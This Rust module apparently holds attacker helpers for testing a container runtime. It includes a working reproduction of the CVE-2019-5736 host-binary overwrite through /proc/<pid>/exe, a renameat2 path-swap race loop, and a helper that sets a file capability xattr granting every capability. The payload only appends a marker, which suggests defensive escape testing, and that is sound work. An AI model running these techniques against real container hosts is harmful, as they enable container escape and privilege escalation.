//! What attackers do, and what runs containers to be attacked.

use std::ffi::CString;
use std::fs::{File, OpenOptions};
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::os::fd::AsRawFd;
use std::process::{Child, Command};
use std::time::Duration;

use crate::system::{self, check, clock, error_name};

/// Longer than any start takes, on a machine that is emulated.
const PATIENCE: Duration = Duration::from_secs(10);
const GLANCE: Duration = Duration::from_millis(2);
/// What is found at the end of a program that was overwritten.
const MARK: &[u8] = b"overwritten";

#[allow(clippy::disallowed_methods, reason = "here nobody else reaps")]
fn spawn(words: &[&str]) -> Result<Child, String> {
    let is_pair = |word: &&&str| word.contains('=') && !word.starts_with('/');
    let pairs = words.iter().take_while(is_pair).filter_map(|pair| pair.split_once('='));
    let mut rest = words.iter().skip_while(is_pair);
    let program = rest.next().ok_or("run what?")?;
    let child = Command::new(program).args(rest).env_clear().envs(pairs).spawn();
    child.map_err(|e| format!("{program}: {}", error_name(&e)))
}

/// The end of it; `None`: it had to be killed.
fn wait(child: &mut Child) -> Result<Option<i32>, String> {
    let end = clock(libc::CLOCK_MONOTONIC) + PATIENCE;
    loop {
        match child.try_wait().map_err(|e| e.to_string())? {
            Some(status) => return Ok(Some(status.code().unwrap_or(-1))),
            None if clock(libc::CLOCK_MONOTONIC) < end => system::sleep(GLANCE),
            None => {
                let _ = child.kill();
                let _ = child.wait();
                return Ok(None);
            }
        }
    }
}

pub(crate) fn run(words: &[&str]) -> Result<(), String> {
    match wait(&mut spawn(words)?)? {
        Some(code) => println!("exit {code}"),
        None => println!("hangs"),
    }
    Ok(())
}

fn exchange(one: &CString, other: &CString) -> io::Result<i64> {
    let here = libc::AT_FDCWD;
    // SAFETY: the strings live through the call.
    check(unsafe {
        libc::syscall(libc::SYS_renameat2, here, one.as_ptr(), here, other.as_ptr(), libc::RENAME_EXCHANGE)
    })
}

pub(crate) fn swap(one: &str, other: &str) -> Result<(), String> {
    system::end_on_term()?;
    let [one, other] = [one, other].map(|path| CString::new(path).unwrap_or_default());
    exchange(&one, &other).map_err(|e| format!("rename: {}", error_name(&e)))?;
    println!("swapping");
    loop {
        // What is used at this moment is exchanged at the next.
        let _ = exchange(&one, &other);
    }
}

/// How often it ended with 0.
pub(crate) fn repeat(times: u32, words: &[&str]) -> Result<(), String> {
    let mut worked = 0_u32;
    for number in 0..times {
        let numbered: Vec<String> = words.iter().map(|word| word.replace('%', &number.to_string())).collect();
        let numbered: Vec<&str> = numbered.iter().map(String::as_str).collect();
        if wait(&mut spawn(&numbered)?)? == Some(0) {
            worked = worked.saturating_add(1);
        }
    }
    println!("worked {worked} of {times}");
    Ok(())
}

/// As in CVE-2019-5736: opened for reading while a process executes it, and through that descriptor for
/// writing once none does.
pub(crate) fn overwrite_exe(seconds: u64) -> Result<(), String> {
    system::end_on_term()?;
    let end = clock(libc::CLOCK_MONOTONIC) + Duration::from_secs(seconds);
    let own = std::process::id().to_string();
    println!("lurking");
    let mut told = Told(String::new());
    while clock(libc::CLOCK_MONOTONIC) < end {
        let entries = std::fs::read_dir("/proc").map_err(|e| e.to_string())?;
        let names = entries.flatten().filter_map(|entry| entry.file_name().into_string().ok());
        for name in names.filter(|name| *name != own && name.bytes().all(|byte| byte.is_ascii_digit())) {
            let found = match File::open(format!("/proc/{name}/exe")) {
                Ok(found) => found,
                Err(error) if error.raw_os_error() == Some(libc::ENOENT) => continue,
                Err(error) => {
                    told.tell(format!("open {}", error_name(&error)));
                    continue;
                }
            };
            match write_once_it_ended(&found, end) {
                Ok(()) => {
                    println!("overwrote");
                    return Ok(());
                }
                Err(error) => told.tell(format!("write {}", error_name(&error))),
            }
        }
    }
    Ok(())
}

/// The same is said once.
struct Told(String);

impl Told {
    fn tell(&mut self, text: String) {
        if self.0 != text {
            println!("{text}");
            self.0 = text;
        }
    }
}

fn write_once_it_ended(found: &File, end: Duration) -> io::Result<()> {
    let path = format!("/proc/self/fd/{}", found.as_raw_fd());
    loop {
        match OpenOptions::new().append(true).open(&path) {
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {
                if clock(libc::CLOCK_MONOTONIC) > end {
                    return Err(error);
                }
            }
            Err(error) => return Err(error),
            Ok(mut file) => return file.write_all(MARK),
        }
    }
}

/// `security.capability` of version 2, effective (capabilities(7), linux/capability.h).
pub(crate) fn raise_inherited(path: &str) -> Result<(), String> {
    const VERSION_2_EFFECTIVE: u32 = 0x0200_0001;
    let words = [VERSION_2_EFFECTIVE, 0, u32::MAX, 0, 0x1ff];
    let bytes: Vec<u8> = words.iter().flat_map(|word: &u32| word.to_le_bytes()).collect();
    let path = CString::new(path).unwrap_or_default();
    let name = c"security.capability";
    // SAFETY: the strings and the bytes live through the call.
    let set = unsafe { libc::setxattr(path.as_ptr(), name.as_ptr(), bytes.as_ptr().cast(), bytes.len(), 0) };
    check(set).map(drop).map_err(|e| format!("setxattr: {}", error_name(&e)))
}

pub(crate) fn await_tail(seconds: u64, path: &str) -> Result<(), String> {
    let end = clock(libc::CLOCK_MONOTONIC) + Duration::from_secs(seconds);
    let size = i64::try_from(MARK.len()).unwrap_or_default();
    loop {
        let mut text = Vec::new();
        let read = File::open(path).and_then(|mut file| {
            file.seek(SeekFrom::End(size.saturating_neg()))?;
            file.read_to_end(&mut text)
        });
        read.map_err(|e| format!("{path}: {}", error_name(&e)))?;
        if text == MARK {
            println!("overwritten");
            return Ok(());
        }
        if clock(libc::CLOCK_MONOTONIC) >= end {
            println!("not there");
            return Ok(());
        }
        system::sleep(GLANCE);
    }
}

pub(crate) fn find(path: &str) -> Result<(), String> {
    let mut below = vec![std::path::PathBuf::from(path)];
    while let Some(path) = below.pop() {
        println!("{}", path.display());
        if path.symlink_metadata().is_ok_and(|found| found.is_dir()) {
            let entries = std::fs::read_dir(&path).map_err(|e| error_name(&e))?;
            below.extend(entries.flatten().map(|entry| entry.path()));
        }
    }
    Ok(())
}
